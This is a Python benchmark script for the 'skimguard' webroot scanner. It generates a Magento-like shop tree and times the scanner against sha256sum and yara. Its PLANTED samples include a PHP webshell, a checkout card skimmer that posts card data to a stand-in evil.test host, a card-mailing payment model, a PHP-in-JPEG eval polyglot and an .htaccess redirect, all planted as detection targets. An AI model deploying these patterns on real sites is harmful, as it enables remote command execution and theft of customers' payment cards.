"""Benchmark of ``skimguard webroot scan`` on a generated shop tree (not a test; prints a report).

Generates a Magento 2-like document root of ``--files`` files (default 100,000, about 1 GB): PHP
classes and templates, JavaScript (plain and minified), Twig/phtml/HTML templates, CSS, JSON/XML,
and product images (the bulk of the bytes) under ``pub/media``, every file unique. A few samples
are planted: a webshell in ``pub/media``, a skimmer in a checkout template, a payment model that
mails card data, a PHP-in-JPEG polyglot and an ``.htaccess`` redirect. Then, side by side on the
same tree (page cache warm for all: each tool reads the tree once before it is timed):

* ``sha256sum`` over every file (``find | xargs -P <cores> sha256sum``): the hashing limit;
* Debian's ``yara`` (``yara -r -p <cores>``) with skimguard's own rule files (the rules the engine
  runs), recursively: the rule-matching limit (``apt-get install yara`` if missing; without it the
  ``yara-x`` Python scanner over every file is the baseline instead, and the report says so);
* ``skimguard webroot scan`` on a fresh database (no baseline: every file hashed, every code file
  analysed: the full scan), the ``webroot baseline`` (hashing only, stat cache reused), and the
  unchanged re-scan (stat cache: nothing read); and ``webroot list``, for the start-up cost
  (imports, configuration, store) that every command pays, the re-scan included. skimguard's
  bytecode is compiled beforehand, as an installed package has it.

Each run is a separate process. Wall time, CPU time (user + system of the process and the
children it waited for: on a shared machine the fairer comparison) and peak memory: the largest
sum of the proportional set sizes (PSS) of the process and its workers, sampled every 50 ms from
``/proc`` (forked workers share pages with their parent; PSS counts a shared page once).
Targets: full scan at most 1.5x yara's time, unchanged re-scan at most 10% of the full scan,
memory under 500 MiB.

Timing on a shared machine is noisy (a one-second re-scan varies by a quarter from run to run):
``--repeat N`` runs every measurement N times, in rounds (each round's scans on a fresh database),
and reports each figure's median; the ratios are taken within each round, side by side, and their
median is reported.

    .venv/bin/python bench/webroot_scan.py [--files 100000] [--dir DIR] [--keep] [--workers 0] [--repeat 1]
"""

from __future__ import annotations

import argparse
import json
import os
import random
import resource
import shutil
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

SEED = 20261122
REPO = Path(__file__).resolve().parent.parent
PACKAGE = REPO / "src" / "skimguard"
RULES = PACKAGE / "analyze" / "rules"

# --------------------------------------------------------------------------------------------
# the tree
# --------------------------------------------------------------------------------------------

WORDS = (
    "order", "quote", "item", "product", "customer", "address", "shipping", "config", "store", "cache",
    "index", "price", "tax", "total", "catalog", "category", "attribute", "option", "stock", "inventory",
    "review", "rating", "wishlist", "cart", "session", "block", "layout", "widget", "page", "email",
    "template", "newsletter", "report", "sales", "invoice", "shipment", "credit", "memo", "payment", "method",
    "gateway", "token",
)  # fmt: skip
VENDORS = ["magento", "amasty", "mageplaza", "mirasvit", "smile", "yotpo", "klaviyo", "vertex", "dotdigital"]

PHP_METHOD = """
    /**
     * {doc}
     *
     * @param array ${a}
     * @return ${b}|null
     */
    public function {name}(array ${a} = [])
    {{
        ${b} = $this->{dep}->create();
        foreach (${a} as $key => $value) {{
            if ($value === null || $key === '{w1}') {{
                continue;
            }}
            ${b}->setData($key, $this->escaper->escapeHtml((string) $value));
        }}
        $this->logger->debug('{w2} {w3} updated', ['count' => count(${a})]);
        return ${b}->getId() ? ${b} : null;
    }}
"""

JS_BLOCK = """
    {name}: function ({a}, {b}) {{
        var self = this, result = [];
        $.each({a} || [], function (index, {w1}) {{
            if ({w1} && {w1}.{w2} !== undefined) {{
                result.push(self.{w3}({w1}, {b}));
            }}
        }});
        $(self.element).trigger('{w2}Updated', [result]);
        return result.length ? result : null;
    }},
"""

TEMPLATE = """{{% extends 'default_frame.twig' %}}
{{% block main %}}
<div class="{w1}-{w2} ec-layoutRole">
  <h2>{{{{ '{w1}.{w2}.title'|trans }}}}</h2>
  {{% for {w3} in {w1}s %}}
    <div class="item" data-id="{{{{ {w3}.id }}}}">{{{{ {w3}.name|e }}}} <span>{{{{ {w3}.price|price }}}}</span></div>
  {{% endfor %}}
  <a href="{{{{ url('{w2}_index') }}}}" class="ec-blockBtn--action">{{{{ 'common.next'|trans }}}}</a>
</div>
{{% endblock %}}
"""


def _ident(rng: random.Random) -> str:
    return rng.choice(WORDS) + rng.choice(WORDS).capitalize() + str(rng.randrange(1000))


def php_file(rng: random.Random, size: int) -> bytes:
    ns = f"{rng.choice(VENDORS).capitalize()}\\{rng.choice(WORDS).capitalize()}\\Model"
    cls = _ident(rng).capitalize()
    parts = [f"<?php\n/**\n * Copyright {rng.choice(VENDORS)}. All rights reserved.\n */\nnamespace {ns};\n\n"]
    parts.append(f"class {cls} extends \\Magento\\Framework\\Model\\AbstractModel\n{{\n")
    parts.append(f"    private ${rng.choice(WORDS)}Factory;\n\n    private $logger;\n")
    total = sum(map(len, parts))
    while total < size:
        block = PHP_METHOD.format(
            doc=" ".join(rng.choice(WORDS) for _ in range(8)).capitalize(),
            a=rng.choice(WORDS) + "s",
            b=rng.choice(WORDS),
            name="get" + _ident(rng).capitalize(),
            dep=rng.choice(WORDS) + "Factory",
            w1=rng.choice(WORDS),
            w2=rng.choice(WORDS),
            w3=rng.choice(WORDS),
        )
        parts.append(block)
        total += len(block)
    parts.append("}\n")
    return "".join(parts).encode()


def js_file(rng: random.Random, size: int, minified: bool) -> bytes:
    name = _ident(rng)
    parts = ["define(['jquery', 'uiComponent', 'mage/translate'], function ($, Component, $t) {\n"]
    parts.append(f"    'use strict';\n    return Component.extend({{\n        defaults: {{ template: '{name}' }},\n")
    total = sum(map(len, parts))
    while total < size:
        block = JS_BLOCK.format(
            name=_ident(rng),
            a=rng.choice(WORDS) + "List",
            b="opt" + str(rng.randrange(100)),
            w1=rng.choice(WORDS),
            w2=rng.choice(WORDS),
            w3="render" + rng.choice(WORDS).capitalize(),
        )
        parts.append(block)
        total += len(block)
    parts.append("        _done: true\n    });\n});\n")
    text = "".join(parts)
    if minified:
        text = " ".join(text.split())
    return text.encode()


def template_file(rng: random.Random, size: int) -> bytes:
    parts: list[str] = []
    total = 0
    while total < size:
        block = TEMPLATE.format(w1=rng.choice(WORDS), w2=rng.choice(WORDS), w3=rng.choice(WORDS))
        parts.append(block)
        total += len(block)
    return "".join(parts).encode()


def css_file(rng: random.Random, size: int) -> bytes:
    parts: list[str] = []
    total = 0
    while total < size:
        block = (
            f".{rng.choice(WORDS)}-{rng.choice(WORDS)} .{rng.choice(WORDS)} {{ margin: {rng.randrange(20)}px; "
            f"color: #{rng.randrange(1 << 24):06x}; display: flex; }}\n"
        )
        parts.append(block)
        total += len(block)
    return "".join(parts).encode()


def image_file(rng: random.Random, size: int, jpeg: bool) -> bytes:
    body = rng.randbytes(size)
    body = body.replace(b"<?", b"<!")  # no accidental PHP tags
    if jpeg:
        return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + body + b"\xff\xd9"
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + body + b"IEND\xaeB`\x82"


PLANTED = {
    "pub/media/catalog/product/cache/.x/wso.php": (
        b"<?php\nif (isset($_REQUEST['c'])) { echo '<pre>'; system($_REQUEST['c']); echo '</pre>'; }\n"
    ),
    "vendor/magento/module-checkout/view/frontend/templates/cart/skimmed.phtml": (
        b"<div id=\"payment\"></div>\n<script>\ndocument.addEventListener('submit', function () {\n"
        b"  var d = {n: document.getElementById('cc_number').value, c: document.getElementById('cc_cid').value};\n"
        b"  var x = new XMLHttpRequest(); x.open('POST', 'https://collect.evil.test/g');\n"
        b"  x.send(btoa(JSON.stringify(d)));\n});\n</script>\n"
    ),
    "vendor/magento/module-payment/Model/Method/Cc.php": (
        b"<?php\nnamespace Magento\\Payment\\Model\\Method;\nclass Cc extends AbstractMethod\n{\n"
        b"    public function validate()\n    {\n        $info = $this->getInfoInstance();\n"
        b"        @mail('drop@evil.test', 'cc', $info->getCcNumber() . '|' . $info->getCcCid());\n"
        b"        return parent::validate();\n    }\n}\n"
    ),
    "pub/media/wysiwyg/banner.jpg": (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\xff\xfe\x00\x30<?php eval(base64_decode($_POST['x'])); ?>"
        + b"\x00" * 4000
        + b"\xff\xd9"
    ),
    ".htaccess": (
        b"RewriteEngine On\nRewriteCond %{HTTP_REFERER} google [NC]\n"
        b"RewriteRule ^checkout/(.*)$ https://pay-secure.evil.test/$1 [R=302,L]\n"
    ),
}


def generate(root: Path, files: int) -> tuple[int, int]:
    """Write the tree; returns (files, bytes)."""
    rng = random.Random(SEED)
    markers = {
        "bin/magento": b"#!/usr/bin/env php\n<?php\nrequire __DIR__ . '/../app/bootstrap.php';\n",
        "app/etc/di.xml": b'<?xml version="1.0"?>\n<config/>\n',
        "vendor/magento/magento2-base/composer.json": b'{"name": "magento/magento2-base", "version": "2.4.6"}\n',
    }
    total_bytes = 0
    count = 0

    def put(rel: str, data: bytes) -> None:
        nonlocal total_bytes, count
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        total_bytes += len(data)
        count += 1

    for rel, data in {**markers, **PLANTED}.items():
        put(rel, data)
    modules = [f"vendor/{v}/module-{w}" for v in VENDORS for w in WORDS[:30]]
    index = 0
    while count < files:
        index += 1
        kind = rng.random()
        module = rng.choice(modules)
        name = f"{_ident(rng)}{index}"
        if kind < 0.40:  # PHP classes and controllers
            sub = rng.choice(["Model", "Model/ResourceModel", "Controller/Index", "Block", "Helper", "Plugin"])
            put(f"{module}/{sub}/{name}.php", php_file(rng, int(rng.lognormvariate(8.4, 0.6))))
        elif kind < 0.46:  # PHP templates
            put(f"{module}/view/frontend/templates/{name}.phtml", php_file(rng, int(rng.lognormvariate(7.6, 0.5))))
        elif kind < 0.58:  # JavaScript
            minified = rng.random() < 0.3
            size = int(rng.lognormvariate(9.9 if minified else 8.9, 0.7))
            put(f"{module}/view/frontend/web/js/{name}{'.min' if minified else ''}.js", js_file(rng, size, minified))
        elif kind < 0.64:  # Twig / HTML templates
            ext = rng.choice([".twig", ".html"])
            put(f"app/design/frontend/Shop/theme/{module.rsplit('/', 1)[1]}/{name}{ext}", template_file(rng, 3000))
        elif kind < 0.70:  # styles
            size = int(rng.lognormvariate(8.4, 0.5))
            put(f"pub/static/frontend/Shop/theme/en_US/css/{name}.css", css_file(rng, size))
        elif kind < 0.73:  # data
            body = rng.randbytes(600).hex().encode()
            put(f"{module}/etc/{name}.xml", b'<?xml version="1.0"?>\n<config>' + body + b"</config>\n")
        else:  # product images: the bulk of the bytes
            a, b = rng.choice("abcdefgh"), rng.choice("abcdefgh")
            jpeg = rng.random() < 0.7
            put(
                f"pub/media/catalog/product/{a}/{b}/{name}.{'jpg' if jpeg else 'png'}",
                image_file(rng, int(rng.lognormvariate(10.0, 0.5)), jpeg),
            )
    return count, total_bytes


# --------------------------------------------------------------------------------------------
# measuring
# --------------------------------------------------------------------------------------------


def _tree_memory(pid: int) -> tuple[int, int]:
    """(sum of the proportional set sizes, largest resident set size) in bytes of ``pid`` and its
    descendants. PSS splits pages shared between processes (forked workers share the parent's
    pages) among them, so the sum is the memory the scan really uses; a sum of RSS would count
    shared pages once per process."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
            children.setdefault(int(fields[1]), []).append(int(entry))
        except (OSError, IndexError, ValueError):
            continue
    pss, rss, todo = 0, 0, [pid]
    while todo:
        current = todo.pop()
        try:
            with open(f"/proc/{current}/smaps_rollup") as f:
                for line in f:
                    if line.startswith("Pss:"):
                        pss += int(line.split()[1]) * 1024
                    elif line.startswith("Rss:"):
                        rss = max(rss, int(line.split()[1]) * 1024)
        except (OSError, IndexError, ValueError):
            pass
        todo.extend(children.get(current, []))
    return pss, rss


def run(cmd: list[str], *, env: dict[str, str] | None = None, quiet: bool = True) -> dict[str, Any]:
    """Run ``cmd``; wall time, exit code, peak memory of its process tree (see :func:`_tree_memory`)."""
    start = time.perf_counter()
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE if quiet else None, stderr=subprocess.PIPE, env=env, text=True)
    peak = peak_rss = 0
    stop = threading.Event()

    def sample() -> None:
        nonlocal peak, peak_rss
        while not stop.is_set():
            pss, rss = _tree_memory(proc.pid)
            peak, peak_rss = max(peak, pss), max(peak_rss, rss)
            stop.wait(0.05)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    out, err = proc.communicate()
    elapsed = time.perf_counter() - start
    stop.set()
    sampler.join()
    after = resource.getrusage(resource.RUSAGE_CHILDREN)  # the process and the children it waited for
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return {
        "seconds": elapsed,
        "cpu_seconds": cpu,
        "rc": proc.returncode,
        "peak_pss": peak,
        "peak_rss_one_process": peak_rss,
        "stdout": out or "",
        "stderr": err or "",
    }


SKIMGUARD = "import sys; from skimguard.cli import main; sys.argv[0] = 'skimguard'; main()"


def skimguard(args: list[str], config: Path) -> dict[str, Any]:
    env = {**os.environ, "SKIMGUARD_CONFIG": str(config)}
    return run([sys.executable, "-c", SKIMGUARD, *args], env=env)


def write_config(workdir: Path) -> Path:
    config = workdir / "skimguard.yaml"
    config.write_text(
        "version: 1\n"
        f"database: sqlite:///{workdir / 'bench.db'}\n"
        "sites:\n  - name: shop\n    base_url: https://shop.test/\n"
        "    journeys:\n      - name: home\n        steps:\n          - goto: /\n"
        "alerts:\n  sinks: []\n",
        encoding="utf-8",
    )
    return config


def yara_baseline(tree: Path, cores: int) -> dict[str, Any]:
    rule_files = [str(p) for p in sorted(RULES.glob("*.yar"))]
    if shutil.which("yara"):
        result = run(["yara", "-r", "-w", "-p", str(cores), *rule_files, str(tree)])
        result["tool"] = "yara " + subprocess.run(["yara", "-v"], capture_output=True, text=True).stdout.strip()
        result["matches"] = len(result["stdout"].splitlines())
        return result
    code = (
        "import os, sys, yara_x\n"
        "c = yara_x.Compiler()\n"
        f"[c.add_source(open(p).read()) for p in {rule_files!r}]\n"
        "s = yara_x.Scanner(c.build()); n = 0\n"
        "for d, _, fs in os.walk(sys.argv[1]):\n"
        "    for f in fs:\n"
        "        n += bool(s.scan_file(os.path.join(d, f)).matching_rules)\n"
        "print(n)\n"
    )
    result = run([sys.executable, "-c", code, str(tree)])
    result["tool"] = "yara-x Python scanner, one process (Debian yara not installed)"
    result["matches"] = int(result["stdout"].strip() or 0)
    return result


ROUND_RUNS = ("sha", "yara", "full", "rescan", "base", "after", "startup")


def measure_round(tree: Path, config: Path, cores: int, sha_cmd: list[str], workers: list[str]) -> dict[str, Any]:
    """One round of every measurement, the scans on a fresh database."""
    for suffix in ("", "-wal", "-shm", "-journal"):
        (config.parent / f"bench.db{suffix}").unlink(missing_ok=True)
    got: dict[str, Any] = {"sha": run(sha_cmd), "yara": yara_baseline(tree, cores)}
    scan = ["webroot", "scan", str(tree), "--no-alerts", "--format", "json", *workers]
    got["full"] = skimguard(scan, config)
    if got["full"]["rc"] not in (0, 1):
        sys.exit(f"full scan failed: {got['full']['stderr'][-2000:]}")
    got["rescan"] = skimguard(scan, config)
    for _ in range(2):  # the rules or engine changed meanwhile (code being edited): cache invalidated
        if json.loads(got["rescan"]["stdout"])["files"]["read"] == 0:
            break
        print("note: the engine fingerprint changed between runs; the re-scan is measured again")
        got["rescan"] = skimguard(scan, config)
    got["base"] = skimguard(["webroot", "baseline", str(tree), *workers], config)
    got["after"] = skimguard(scan, config)
    got["startup"] = skimguard(["webroot", "list"], config)  # what any command costs: imports, config, store
    return got


def median_run(runs: list[dict[str, Any]]) -> dict[str, Any]:
    """The median of each figure of the same run over the rounds."""
    keys = ("seconds", "cpu_seconds", "peak_pss", "peak_rss_one_process")
    return {**runs[-1], **{k: statistics.median(r[k] for r in runs) for k in keys}}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--files", type=int, default=100_000)
    parser.add_argument("--dir", type=Path, help="Where to generate the tree (default: a temporary folder).")
    parser.add_argument("--keep", action="store_true", help="Keep the generated tree and database.")
    parser.add_argument("--tree", type=Path, help="Use this tree (generated by an earlier --keep run) as it is.")
    parser.add_argument("--workers", type=int, default=0, help="skimguard --workers (0: one per CPU).")
    parser.add_argument("--json", type=Path, help="Also write the figures to this file.")
    parser.add_argument("--repeat", type=int, default=1, help="Rounds of measurements; medians are reported.")
    args = parser.parse_args()
    cores = os.cpu_count() or 1
    workdir = Path(tempfile.mkdtemp(prefix="sg-webroot-bench-", dir=args.dir))
    tree = workdir / "shop"
    try:
        started = time.perf_counter()
        if args.tree:
            tree = args.tree.resolve()
            sizes = [os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(tree) for f in fs]
            count, size = len(sizes), sum(sizes)
            print(f"tree: {count} files, {size / 1e9:.2f} GB, as found in {tree}")
        else:
            count, size = generate(tree, args.files)
            took = time.perf_counter() - started
            print(f"tree: {count} files, {size / 1e9:.2f} GB, generated in {took:.0f} s ({tree})")
        config = write_config(workdir)
        sha_cmd = ["sh", "-c", f"find '{tree}' -type f -print0 | xargs -0 -P {cores} -n 500 sha256sum > /dev/null"]
        run(sha_cmd)  # warm the page cache
        # as an installed package has it: skimguard's bytecode compiled (PYTHONDONTWRITEBYTECODE, set
        # on some machines, would otherwise make every run compile every module it imports)
        subprocess.run([sys.executable, "-m", "compileall", "-q", str(PACKAGE)], check=True)
        rounds = [measure_round(tree, config, cores, sha_cmd, ["--workers", str(args.workers)])
                  for _ in range(max(1, args.repeat))]  # fmt: skip
        last = rounds[-1]
        sha, yara, full, rescan, base, after, startup = (
            median_run([r[label] for r in rounds]) for label in ROUND_RUNS
        )  # fmt: skip
        report = json.loads(last["full"]["stdout"])
        after_report = json.loads(last["after"]["stdout"])
        mib = 1024 * 1024
        rows = [
            (f"sha256sum (xargs -P {cores})", sha),
            (yara["tool"] + f" -p {cores}", yara),
            ("skimguard full scan (no baseline)", full),
            ("skimguard unchanged re-scan", rescan),
            ("skimguard baseline (stat cache warm)", base),
            ("skimguard scan after baseline", after),
            ("skimguard start-up (webroot list)", startup),
        ]
        print(f"\n{'run':46} {'wall s':>7} {'CPU s':>7} {'peak PSS MiB':>13} {'max RSS MiB':>12}")
        for label, r in rows:
            print(
                f"{label:46} {r['seconds']:7.2f} {r['cpu_seconds']:7.2f} {r['peak_pss'] / mib:13.0f} "
                f"{r['peak_rss_one_process'] / mib:12.0f}"
            )
        rules = sorted({f["rule_id"] for f in report["findings"]})
        print(f"\nfull scan: {report['files']}, {len(report['findings'])} finding(s), rules {', '.join(rules)}")
        print(f"yara: {last['yara']['matches']} matching (rule, file) lines")
        print(f"after baseline: {after_report['files']}, {len(after_report['findings'])} finding(s)")
        ratio_yara = statistics.median(r["full"]["seconds"] / r["yara"]["seconds"] for r in rounds)
        ratio_rescan = statistics.median(r["rescan"]["seconds"] / r["full"]["seconds"] for r in rounds)
        cpu_rescan = statistics.median(r["rescan"]["cpu_seconds"] / r["full"]["cpu_seconds"] for r in rounds)
        cpu_yara = statistics.median(r["full"]["cpu_seconds"] / r["yara"]["cpu_seconds"] for r in rounds)
        if len(rounds) > 1:
            print(f"\n{len(rounds)} rounds: medians; ratios within each round: " + "; ".join(
                f"re-scan/full {r['rescan']['seconds'] / r['full']['seconds']:.3f}" for r in rounds
            ))  # fmt: skip
        print(
            f"\nfull scan / yara = {ratio_yara:.2f} wall, {cpu_yara:.2f} CPU (target <= 1.5); "
            f"unchanged re-scan / full scan = {ratio_rescan:.3f} wall, {cpu_rescan:.3f} CPU (target <= 0.10; "
            f"{startup['seconds']:.2f} s of the re-scan is the start-up every command pays); "
            f"peak memory {full['peak_pss'] / mib:.0f} MiB PSS of the scan's processes (target < 500)"
        )
        if args.json:
            args.json.write_text(
                json.dumps(
                    {
                        "files": count,
                        "rounds": len(rounds),
                        "bytes": size,
                        "runs": {
                            label: {
                                k: r[k] for k in ("seconds", "cpu_seconds", "peak_pss", "peak_rss_one_process", "rc")
                            }
                            for label, r in rows
                        },
                        "full_over_yara": ratio_yara,
                        "full_over_yara_cpu": cpu_yara,
                        "rescan_over_full": ratio_rescan,
                        "rescan_over_full_cpu": cpu_rescan,
                    },
                    indent=2,
                )
            )
    finally:
        if not args.keep:
            shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    main()
